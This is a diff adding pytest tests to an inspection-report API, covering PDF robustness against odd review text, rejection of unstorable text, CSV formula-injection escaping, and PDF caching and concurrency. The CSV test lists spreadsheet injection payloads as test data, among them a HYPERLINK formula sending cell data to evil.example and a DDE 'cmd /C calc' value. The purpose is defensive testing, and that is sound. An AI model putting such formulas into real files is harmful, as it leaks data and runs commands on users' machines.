@@ -5,8 +5,10 @@ from __future__ import annotations
 import csv
 import io
 import json
+from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 
+import httpx
 import jsonschema
 import pytest
 from fastapi.testclient import TestClient
@@ -186,3 +188,99 @@ def test_review_retry_with_the_same_key_is_replayed(client: TestClient, fake_ite
     assert len(client.get(report["links"]["self"]).json()["review"]["reviews"]) == 1
     without_key = client.post(url, json=body)  # a blind retry without a key is a conflict
     assert without_key.status_code == 409
+
+
+@pytest.mark.parametrize("reason", [r"$\foo{$ priced $5", "fake 👜 bag \u202eevil 偽物", "x" * 4000,
+                                    "ctl \x01\x1b[31m\x7f"], ids=["tex", "emoji-rtl-cjk", "long", "control"])
+def test_hostile_review_reason_never_breaks_the_pdf(client: TestClient, fake_item: SyntheticItem,
+                                                    reason: str) -> None:
+    """Issue 19 finding 3: a review reason that matplotlib could not draw made the report's PDF
+    a 500 on every later request."""
+    report = inspect(client, fake_item, client_ref="$\\bad{")
+    r = client.post(f"/v1/reports/{report['id']}/reviews", json={
+        "decision": "override", "verdict": "authentic", "reviewer": "ana", "expected_version": 0,
+        "reason": reason})
+    assert r.status_code == 201, r.text
+    for _ in range(2):
+        pdf = client.get(report["links"]["pdf"])
+        assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
+
+
+@pytest.mark.parametrize("reason", ["NUL \x00 here", "lone \ud800 surrogate"], ids=["nul", "surrogate"])
+def test_review_text_no_database_can_store_is_refused(client: TestClient, fake_item: SyntheticItem,
+                                                      reason: str) -> None:
+    report = inspect(client, fake_item)
+    body = json.dumps({"decision": "override", "verdict": "authentic", "reviewer": "ana",
+                       "expected_version": 0, "reason": reason})  # ensure_ascii: \ud800 escaped
+    r = client.post(f"/v1/reports/{report['id']}/reviews", content=body,
+                    headers={"content-type": "application/json"})
+    assert r.status_code == 422 and r.headers["content-type"] == "application/problem+json", r.text
+    assert client.get(report["links"]["self"]).json()["review"]["version"] == 0
+    assert client.get(report["links"]["pdf"]).status_code == 200
+
+
+def test_csv_export_never_emits_a_formula(client: TestClient, genuine_item: SyntheticItem) -> None:
+    """Issue 19 finding 4 (OWASP CSV injection): a client_ref such as =HYPERLINK(...) came out of
+    the export as a cell a spreadsheet runs."""
+    refs = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3",
+            "@SUM(A1:A9)", "\uff1d1+1", "plain-ref-1", "a=b"]
+    for ref in refs:
+        inspect(client, genuine_item, client_ref=ref)
+    exported = client.get("/v1/reports.csv")
+    assert exported.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(exported.text)))
+    cells = [cell for row in rows for cell in row.values() if cell]
+    assert not [c for c in cells if c[0] in "=+-@\t\r\uff1d"], cells
+    got = {row["client_ref"] for row in rows}
+    assert got == {"'" + r for r in refs[:5]} | {"plain-ref-1", "a=b"}
+    assert all(float(row["p_counterfeit"]) >= 0 for row in rows)  # numbers stay numbers
+
+
+def test_pdf_is_rendered_once_per_review_version(client: TestClient, settings: Settings,
+                                                 fake_item: SyntheticItem) -> None:
+    """Issue 19 finding 11: PDFs were rendered on every request. Now once per review version,
+    cached in the blob store; a review makes the next request render the reviewed report."""
+    pdfs = client.app.state.services.pdfs  # type: ignore[attr-defined]
+    report = inspect(client, fake_item)
+    first = client.get(report["links"]["pdf"])
+    second = client.get(report["links"]["pdf"])
+    assert first.status_code == second.status_code == 200 and pdfs.renders == 1
+    assert first.content == second.content
+    cached = settings.blob_dir / "pdf" / report["id"]
+    assert [p.name for p in cached.iterdir()] == ["v0.pdf"]
+    r = client.post(f"/v1/reports/{report['id']}/reviews", json={
+        "decision": "override", "verdict": "authentic", "reviewer": "ana", "expected_version": 0,
+        "reason": "re-measured"})
+    assert r.status_code == 201 and not cached.exists()  # the review dropped the stale PDF
+    reviewed = client.get(report["links"]["pdf"])
+    assert reviewed.status_code == 200 and pdfs.renders == 2 and reviewed.content != first.content
+    assert [p.name for p in cached.iterdir()] == ["v1.pdf"]
+    assert client.get(report["links"]["pdf"]).content == reviewed.content and pdfs.renders == 2
+
+
+def test_concurrent_pdfs_share_a_render_and_are_bounded(tmp_path: Path, genuine_item: SyntheticItem,
+                                                        fake_item: SyntheticItem) -> None:
+    from tests.conftest import live_server, make_settings
+
+    with live_server(make_settings(tmp_path, pdf_workers=1, pdf_queue=1)) as server:
+        ids = []
+        for item in (genuine_item, fake_item, genuine_item):
+            r = httpx.post(server.url + "/v1/inspections", files=files_of(item), timeout=60,
+                           data={"brand": item.brand, "model": item.model})
+            assert r.status_code == 201, r.text
+            ids.append(r.json()["id"])
+
+        def get(report_id: str) -> httpx.Response:
+            return httpx.get(f"{server.url}/v1/reports/{report_id}.pdf", timeout=60)
+
+        with ThreadPoolExecutor(6) as pool:
+            same = list(pool.map(get, [ids[0]] * 6))  # one report: one render, six answers
+        assert [r.status_code for r in same] == [200] * 6
+        assert len({r.content for r in same}) == 1
+        with ThreadPoolExecutor(6) as pool:
+            mixed = list(pool.map(get, [ids[1], ids[2]] * 3))
+        codes = sorted(r.status_code for r in mixed)
+        assert 200 in codes and 503 in codes, codes  # one render at a time; the other waits outside
+        busy = next(r for r in mixed if r.status_code == 503)
+        assert busy.json()["type"].endswith("/pdf-busy") and int(busy.headers["retry-after"]) >= 1
+        assert httpx.get(server.url + "/readyz").status_code == 200
